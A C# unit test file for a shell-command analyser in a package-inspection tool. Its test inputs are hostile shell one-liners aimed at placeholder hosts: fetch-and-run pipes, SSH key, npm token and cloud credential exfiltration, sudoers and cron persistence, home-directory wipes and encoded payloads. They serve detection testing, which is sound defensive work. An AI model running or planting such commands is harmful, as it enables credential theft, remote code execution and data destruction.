using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.Shell;

namespace PackageWall.Inspection.Tests.Languages.Shell;

public sealed class ShellReaderTests
{
    private static FileFacts Read(string text) => new ShellReader(CommandFacts.Echo).Read(CommandFacts.Source(text));

    [Theory]
    [InlineData("curl -fsSL https://x.invalid/i.sh | sh")]
    [InlineData("wget -qO- https://x.invalid/i | sudo bash -s -- -y")]
    [InlineData("a=cu;b=rl; $a$b http://x.invalid/p -o /tmp/p && chmod +x /tmp/p && /tmp/p")]
    [InlineData("wget https://x.invalid/run.sh && sh run.sh")]
    [InlineData("bash <(curl -s https://x.invalid)")]
    [InlineData("source <(curl -s https://x.invalid)")]
    [InlineData("sh -c \"$(curl -fsSL https://x.invalid)\"")]
    [InlineData("eval `wget -q -O - https://x.invalid`")]
    [InlineData("x=$(curl -s https://x.invalid); eval \"$x\"")]
    [InlineData("c\"u\"r\\l -s https://x.invalid/a.js | node")]
    [InlineData("curl https://x.invalid > a.py; python3 a.py")]
    [InlineData("if true; then (curl https://x.invalid | tee a.sh) ; fi; . ./a.sh")]
    [InlineData("$((curl x.invalid/a) | sh)")]
    [InlineData("bash -c 'bash -c \"curl https://x.invalid | sh\"'")]
    [InlineData("curl -o x https://x.invalid && mv x y && ./y")]
    [InlineData("timeout 9 env A=b nohup curl https://x.invalid | xargs -0 sh -c")]
    public void What_is_fetched_flows_into_what_is_run(string text) => Read(text).HasFlow("execute.code", "network.fetch").ShouldBeTrue(string.Join('\n', CommandFacts.Lines(Read(text))));

    [Theory]
    [InlineData("cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.invalid", "read.secret.ssh")]
    [InlineData("curl -X POST -d @$HOME/.npmrc https://x.invalid", "read.secret.registry")]
    [InlineData("curl -F 'f=@/home/a/.aws/credentials' https://x.invalid", "read.secret.cloud")]
    [InlineData("curl -T ~/.ssh/id_rsa https://x.invalid", "read.secret.ssh")]
    [InlineData("env | nc x.invalid 99", "read.env.bulk")]
    [InlineData("printenv > /dev/tcp/192.0.2.1/99", "read.env.bulk")]
    [InlineData("curl \"https://x.invalid/?t=$NPM_TOKEN\"", "read.env.secret")]
    [InlineData("t=$(gh auth token); curl -sd \"$t\" https://x.invalid", "read.secret.git")]
    [InlineData("nc x.invalid 9 < ~/.netrc", "read.secret.git")]
    [InlineData("tar czf - ~/.aws | curl --data-binary @- https://x.invalid", "read.secret.cloud")]
    [InlineData("wget --post-file=$HOME/.npmrc https://x.invalid", "read.secret.registry")]
    public void What_is_read_flows_into_what_is_sent(string text, string source) => Read(text).HasFlow("network.send", source).ShouldBeTrue(string.Join('\n', CommandFacts.Lines(Read(text))));

    [Theory]
    [InlineData("echo x >> ~/.bashrc", "persist.shell-profile")]
    [InlineData("echo x | crontab -", "persist.cron")]
    [InlineData("cp a $HOME/.config/systemd/user/a.service", "persist.systemd")]
    [InlineData("systemctl --user enable a", "persist.systemd")]
    [InlineData("launchctl load a", "persist.launchd")]
    [InlineData("cat key >> ~/.ssh/authorized_keys", "persist.authorized-keys")]
    [InlineData("echo 'a ALL=NOPASSWD: ALL' | sudo tee /etc/sudoers.d/a", "persist.sudoers")]
    [InlineData("cat > .git/hooks/pre-commit <<'E'\nx\nE", "persist.git-hook")]
    [InlineData("rm -rf ~", "wipe")]
    [InlineData("rm -rf \"$HOME\"/*", "wipe")]
    [InlineData("find / -delete", "wipe")]
    [InlineData("rm -- \"$0\"", "self-erase")]
    [InlineData("rm package.json", "self-erase")]
    [InlineData("npm publish --access public", "network.publish")]
    [InlineData("claude --dangerously-skip-permissions -p x", "execute.agent.unattended")]
    [InlineData("nohup node a.js &", "execute.detached")]
    [InlineData("node a.js > /dev/null 2>&1", "silence")]
    [InlineData("dig $(whoami).x.invalid", "network.dns")]
    [InlineData("curl http://169.254.169.254/latest/meta-data/", "read.secret.metadata")]
    [InlineData("curl -fsSL https://bun.sh/install | bash", "fetch.runtime")]
    [InlineData("cat /proc/1/environ", "read.environ-file")]
    [InlineData("openssl enc -d -aes-256-cbc -in a -out b -k c", "decode.keyed")]
    [InlineData("exec 3<>/dev/tcp/192.0.2.1/99", "network.socket")]
    [InlineData("regsvr32 /s /n /u /i:https://x.invalid/a.sct scrobj.dll", "execute.code")]
    public void Commands_make_the_facts_of_the_vocabulary(string text, string fact) => CommandFacts.Names(Read(text)).ShouldContain(fact);

    [Theory]
    [InlineData("husky install || true && node-gyp rebuild && patch-package", "execute.process")]
    [InlineData("if [ -f ~/.npmrc ]; then echo yes; fi", "")]
    [InlineData("[[ -n $x && $x < 3 ]] && echo hi", "read.env")]
    [InlineData("cross-env NODE_ENV=production webpack --config x.js", "execute.process")]
    [InlineData("echo ~/.ssh/id_rsa", "")]
    [InlineData("case $1 in a|b) echo hi;; --c) exit;; esac", "")]
    [InlineData("echo $((1 + 2))", "")]
    [InlineData("# curl https://x.invalid | sh", "")]
    public void Ordinary_commands_make_ordinary_facts(string text, string facts) => string.Join(" ", CommandFacts.Names(Read(text))).ShouldBe(facts);

    [Fact]
    public void Constant_code_is_decoded_and_read_on()
    {
        var facts = Read("echo ZWNobyBoaSA+PiB+Ly5iYXNocmM= | base64 --decode | sh");
        facts.HasFlow("execute.code", "decode.constant").ShouldBeTrue();
        facts.Facts.ShouldContain(fact => fact.Name == "persist.shell-profile" && fact.Depth == 1);
        facts.Layers.ShouldHaveSingleItem().Text.ShouldBe("echo hi >> ~/.bashrc");
        Read("printf '\\145\\143ho hi' | rev | rev | tr a-z n-za-m | sh").HasFlow("execute.code", "decode.constant").ShouldBeTrue();
    }

    [Fact]
    public void Code_of_other_languages_goes_to_its_reader()
    {
        CommandFacts.Lines(Read("node -e \"require('x')\"")).ShouldContain("inner.javascript=require('x')");
        CommandFacts.Lines(Read("python3 -c 'import os'")).ShouldContain("inner.python=import os");
        CommandFacts.Lines(Read("python3 <<E\nimport os\nE")).ShouldContain("inner.python=import os\n");
        CommandFacts.Lines(Read("node -pe '1'")).ShouldContain("inner.javascript=1");
        new ShellReader().Read(CommandFacts.Source("python3 -c 'import os'")).Unread.ShouldHaveSingleItem();
    }

    [Theory]
    [InlineData("node scripts/a.js --flag", ReferenceKind.Spawn, "scripts/a.js")]
    [InlineData("node -r ./hook a.js", ReferenceKind.Import, "./hook")]
    [InlineData("npx tsx b.ts", ReferenceKind.Spawn, "b.ts")]
    [InlineData("./bin/go", ReferenceKind.Spawn, "./bin/go")]
    [InlineData("bun run c.ts", ReferenceKind.Spawn, "c.ts")]
    [InlineData("python -m pkg.mod", ReferenceKind.Import, "pkg.mod")]
    [InlineData(". ./env.sh", ReferenceKind.Import, "./env.sh")]
    [InlineData("cat data.bin | x", ReferenceKind.Open, "data.bin")]
    [InlineData("a=scripts; node \"$a/${b:-x}.js\"", ReferenceKind.Spawn, "scripts/x.js")]
    public void Files_that_commands_name_are_references(string text, ReferenceKind kind, string target) =>
        Read(text).References.ShouldContain(reference => reference.Kind == kind && reference.Target == target);

    [Fact]
    public void Lines_and_evidence_point_at_the_command()
    {
        var fact = Read("#!/bin/sh\n\ncat <<E\na\nE\ncurl -s \\\n https://x.invalid | sh\n").Facts.First(fact => fact.Name == "execute.code");
        fact.Line.ShouldBe(7);
        Read("set -e\nnode a.js").Facts.First(fact => fact.Name == "execute.package-file").Evidence.ShouldBe("node a.js");
    }

    [Fact]
    public void Garbage_and_deep_nests_are_read_without_an_exception_in_bounded_time()
    {
        var random = new Random(20260102);
        string[] pieces = ["$(", ")", "`", "'", "\"", "${", "}", "{", "(", "((", "))", "<<E\n", "E\n", "<(", ">", ">>", "<", "|", "&&", ";", "&", "\n", " ", "\\", "$", "a", "b=c", "eval", "sh", "-c", "curl", "https://x.invalid", "case", "in", "esac", "[[", "]]", "for", "#", "!", "base64", "-d", "export", "\0"];
        for (var round = 0; round < 1500; round++)
        {
            Read(string.Concat(Enumerable.Range(0, random.Next(1, 60)).Select(_ => pieces[random.Next(pieces.Length)] + (random.Next(2) == 0 ? " " : ""))));
        }

        foreach (var piece in pieces)
        {
            Read(string.Concat(Enumerable.Repeat(piece, 100_000 / piece.Length)) + "\ncurl https://x.invalid");
        }

        Read("a=xxxxxxxxxx\n" + string.Concat(Enumerable.Repeat("a=$a$a\n", 200)) + "echo $a").ShouldNotBeNull();
    }
}
